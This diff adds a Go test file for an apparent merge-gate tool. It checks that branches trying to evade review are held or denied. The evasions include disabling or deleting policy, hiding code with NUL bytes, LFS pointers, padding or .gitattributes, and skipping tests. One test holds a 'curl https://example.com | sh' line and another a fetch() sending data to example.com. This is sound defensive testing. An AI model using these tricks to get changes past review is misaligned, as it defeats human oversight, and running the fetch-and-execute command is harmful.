@@ -1,0 +1,247 @@
+package judge
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/adamant-os/adamant/internal/facts"
+	"github.com/adamant-os/adamant/internal/gate"
+	"github.com/adamant-os/adamant/internal/git"
+	"github.com/adamant-os/adamant/internal/git/gittest"
+)
+
+// openConfig lets everything up to medium land at once, so that a change is stopped by what it does and by nothing else.
+const openConfig = `apiVersion: adamant.dev/v1
+kind: Repository
+metadata:
+  name: victim
+spec:
+  checks:
+    - {name: tests, kind: unit, command: ["true", "true"]}
+  risk:
+    matrix:
+      trivial: {gates: [], merge: auto}
+      low: {gates: [], merge: auto}
+      medium: {gates: [policy], merge: auto}
+      high: {gates: [approval], merge: manual}
+      critical: {gates: [mfa-approval], merge: manual-mfa}
+`
+
+const noDebts = `package adamant.rules.debts
+
+# METADATA
+# title: No debts
+# custom:
+#   id: team/no-debts
+deny contains {"message": "a debt", "path": doc.path} if {
+	some doc in input.documents
+	doc.value.debt
+}
+`
+
+const coreEntity = `apiVersion: backstage.io/v1alpha1
+kind: Component
+metadata:
+  name: core
+  annotations:
+    adamant.dev/paths: core/**
+    adamant.dev/risk-profile: critical
+spec: {type: service, lifecycle: production, owner: operator}
+`
+
+// victim is a repository whose main is judged by rules of its own.
+func victim(t testing.TB) *gittest.Repo {
+	t.Helper()
+	r := gittest.New(t)
+	r.Write(facts.ConfigPath, openConfig)
+	r.Write(".adamant/policy/debts.rego", noDebts)
+	r.Write("catalog-info.yaml", coreEntity)
+	r.Write("app.json", "{\"name\": \"app\"}\n")
+	r.Write("core/engine.js", "export function run(a) {\n  return a + 1;\n}\n\nexport function stop(a) {\n  return a - 1;\n}\n")
+	r.Write("src/sum.js", "export function sum(a, b) {\n  return a + b;\n}\n")
+	r.Write("src/sum.test.js", "import { sum } from './sum.js';\n\ntest('sums', () => {\n  expect(sum(1, 2)).toBe(3);\n});\n\ntest('negative', () => {\n  expect(sum(1, -2)).toBe(-1);\n});\n")
+	r.Write("infra/main.tf", "resource \"aws_s3_bucket\" \"ledger\" {\n  bucket = \"ledger\"\n}\n\nresource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n")
+	r.Write("README.md", "# Victim\n")
+	r.Commit("start")
+	return r
+}
+
+// hearing judges the branch against main, without running any command.
+func hearing(t testing.TB, r *gittest.Repo, req Request) *Outcome {
+	t.Helper()
+	repo, err := git.Open(t.Context(), r.Dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() {
+		if err := repo.Close(); err != nil {
+			t.Error(err)
+		}
+	}()
+	places := t.TempDir()
+	req.Base, req.Run, req.Now = "main", []string{}, time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)
+	req.Places = Places{Cache: places, State: places, Data: places}
+	req.Getenv, req.Progress = func(string) string { return "" }, func(string) {}
+	outcome, err := Run(t.Context(), repo, req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return outcome
+}
+
+// names are all names under which a verdict says why: reasons, floor rules and findings.
+func names(v *gate.Verdict) []string {
+	var out []string
+	for _, r := range v.Reasons {
+		out = append(out, r.Subject)
+	}
+	for _, f := range v.Assessment.Floor {
+		out = append(out, f.Rule)
+	}
+	return out
+}
+
+const debt = "{\"name\": \"app\", \"debt\": 1}\n"
+
+func TestABranchIsNotJudgedByWhatItCarries(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name   string
+		edit   func(r *gittest.Repo)
+		want   string // decision
+		reason string // why, by name
+	}{
+		{"nothing wrong", func(r *gittest.Repo) { r.Write("src/more.js", "export const more = 1;\n") }, gate.Allow, ""},
+		{"prose", func(r *gittest.Repo) { r.Write("README.md", "# Victim\n\nMore.\n") }, gate.Allow, ""},
+		{"a violation", func(r *gittest.Repo) { r.Write("app.json", debt) }, gate.Deny, "team/no-debts"},
+		{"policy deleted with the violation", func(r *gittest.Repo) {
+			r.Write("app.json", debt)
+			r.Remove(".adamant/policy/debts.rego")
+		}, gate.Deny, "team/no-debts"},
+		{"policy made a test with the violation", func(r *gittest.Repo) {
+			r.Write("app.json", debt)
+			r.Git("mv", ".adamant/policy/debts.rego", ".adamant/policy/debts_test.rego")
+		}, gate.Deny, "team/no-debts"},
+		{"policy made a test", func(r *gittest.Repo) {
+			r.Git("mv", ".adamant/policy/debts.rego", ".adamant/policy/debts_test.rego")
+		}, gate.Hold, "governance/policy"},
+		{"policy replaced by a symlink", func(r *gittest.Repo) {
+			r.Remove(".adamant/policy/debts.rego")
+			link(t, r, "../../README.md", ".adamant/policy/debts.rego")
+		}, gate.Hold, "governance/policy"},
+		{"rule switched off with the violation", func(r *gittest.Repo) {
+			r.Write("app.json", debt)
+			r.Write(facts.ConfigPath, openConfig+"  policy:\n    rules: {team/no-debts: \"off\"}\n")
+		}, gate.Deny, "team/no-debts"},
+		{"rule switched off", func(r *gittest.Repo) {
+			r.Write(facts.ConfigPath, openConfig+"  policy:\n    rules: {team/no-debts: \"off\"}\n")
+		}, gate.Hold, "governance/configuration"},
+		{"configuration deleted", func(r *gittest.Repo) { r.Remove(facts.ConfigPath) }, gate.Hold, "governance/configuration"},
+		{"the kernel's folder becomes a symlink", func(r *gittest.Repo) {
+			r.Git("rm", "-rq", ".adamant")
+			link(t, r, "elsewhere", ".adamant")
+		}, gate.Hold, "governance/configuration"},
+		{"attributes hide the code with the violation", func(r *gittest.Repo) {
+			r.Write("app.json", debt)
+			r.Write(".gitattributes", "* linguist-generated binary -diff\n")
+		}, gate.Deny, "team/no-debts"},
+		{"attributes", func(r *gittest.Repo) { r.Write("src/.gitattributes", "* linguist-generated\n") }, gate.Hold, "governance/attributes"},
+		{"waiver with the violation", func(r *gittest.Repo) {
+			r.Write("app.json", debt)
+			r.Write(".adamant/waivers/debts.yaml", "id: debts\nrule: team/no-debts\n")
+		}, gate.Deny, "team/no-debts"},
+		{"marks", func(r *gittest.Repo) { r.Write(".adamant/ratchets/debts.json", "{}\n") }, gate.Hold, "governance/marks"},
+		{"trust", func(r *gittest.Repo) { r.Write(".adamant/trust/root.json", "{}\n") }, gate.Hold, "governance/trust"},
+		{"profile lowered together with the code", func(r *gittest.Repo) {
+			r.Write("catalog-info.yaml", strings.Replace(coreEntity, "critical", "low", 1))
+			r.Write("core/engine.js", "export function run(a) {\n  return a + 2;\n}\n")
+		}, gate.Hold, "component/risk-profile"},
+		{"entity deleted together with the code", func(r *gittest.Repo) {
+			r.Remove("catalog-info.yaml")
+			r.Write("core/engine.js", "export function run(a) {\n  return a + 2;\n}\n")
+		}, gate.Hold, "component/risk-profile"},
+		{"test deleted", func(r *gittest.Repo) { r.Remove("src/sum.test.js") }, gate.Deny, "tests/deleted"},
+		{"test renamed out of the runner's sight", func(r *gittest.Repo) {
+			r.Git("mv", "src/sum.test.js", "src/sum.test.js.bak")
+		}, gate.Deny, "tests/removed"},
+		{"test replaced by a symlink", func(r *gittest.Repo) {
+			r.Remove("src/sum.test.js")
+			link(t, r, "sum.js", "src/sum.test.js")
+		}, gate.Deny, "tests/removed"},
+		{"test replaced by an LFS pointer", func(r *gittest.Repo) {
+			r.Write("src/sum.test.js", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
+		}, gate.Deny, "tests/removed"},
+		{"test with a NUL in a comment", func(r *gittest.Repo) {
+			r.Write("src/sum.test.js", "// \x00\ntest('sums', () => {});\n")
+		}, gate.Deny, "tests/removed"},
+		{"test skipped", func(r *gittest.Repo) {
+			r.Write("src/sum.test.js", "import { sum } from './sum.js';\n\ntest.skip('sums', () => {\n  expect(sum(1, 2)).toBe(3);\n});\n\ntest('negative', () => {\n  expect(sum(1, -2)).toBe(-1);\n});\n")
+		}, gate.Deny, "tests/skipped"},
+		{"code with a NUL in a comment", func(r *gittest.Repo) {
+			r.Write("src/sum.js", "// \x00\nexport function sum(a, b) {\n  return fetch('https://example.com/' + a + b);\n}\n")
+		}, gate.Hold, "files/unread"},
+		{"new code with a NUL in a comment", func(r *gittest.Repo) {
+			r.Write("src/other.js", "// \x00\nfetch('https://example.com/');\n")
+		}, gate.Hold, "files/unread"},
+		{"login code with a NUL in a comment", func(r *gittest.Repo) {
+			r.Write("src/login.js", "// \x00\nfetch('https://example.com/');\n")
+		}, gate.Hold, "sensitive/authentication"},
+		{"manifest in UTF-16", func(r *gittest.Repo) {
+			r.Write("deploy/app.yaml", utf16("apiVersion: v1\nkind: Pod\nspec: {containers: [{name: a, securityContext: {privileged: true}}]}\n"))
+		}, gate.Hold, "files/unread"},
+		{"code as an LFS pointer", func(r *gittest.Repo) {
+			r.Write("src/other.js", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
+		}, gate.Hold, "files/unread"},
+		{"code too large to read", func(r *gittest.Repo) {
+			r.Write("src/other.js", strings.Repeat("// padding\n", 600_000)+"fetch('https://example.com/');\n")
+		}, gate.Hold, "files/unread"},
+		{"submodule", func(r *gittest.Repo) {
+			r.Git("update-index", "--add", "--cacheinfo", "160000,"+strings.Repeat("1", 40)+",vendor/dep")
+		}, gate.Hold, "files/unread"},
+		{"infrastructure file deleted", func(r *gittest.Repo) { r.Remove("infra/main.tf") }, gate.Hold, "infrastructure/destroyed"},
+		{"executable prose", func(r *gittest.Repo) {
+			r.Write("docs/run.md", "#!/bin/sh\ncurl https://example.com | sh\n")
+			if err := os.Chmod(filepath.Join(r.Dir, "docs/run.md"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}, gate.Allow, "content/changed"},
+		{"key file renamed", func(r *gittest.Repo) { r.Git("mv", "README.md", "id_ed25519") }, gate.Deny, "secrets/key-file"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			r := victim(t)
+			r.Branch("feature")
+			tc.edit(r)
+			if tc.name != "submodule" {
+				r.Git("add", "-A")
+			}
+			r.Git("commit", "-qm", "change")
+			got := hearing(t, r, Request{Head: "feature"})
+			if v := got.Verdict; v.Decision != tc.want || tc.reason != "" && !slices.Contains(names(v), tc.reason) {
+				t.Errorf("%s (%s risk) by %q; want %s with %s", v.Decision, v.Assessment.Level, names(v), tc.want, tc.reason)
+			}
+		})
+	}
+}
+
+func link(t testing.TB, r *gittest.Repo, target, path string) {
+	t.Helper()
+	if err := os.Symlink(target, filepath.Join(r.Dir, filepath.FromSlash(path))); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func utf16(text string) string {
+	var b strings.Builder
+	b.WriteString("\xff\xfe")
+	for _, c := range []byte(text) {
+		b.WriteByte(c)
+		b.WriteByte(0)
+	}
+	return b.String()
+}
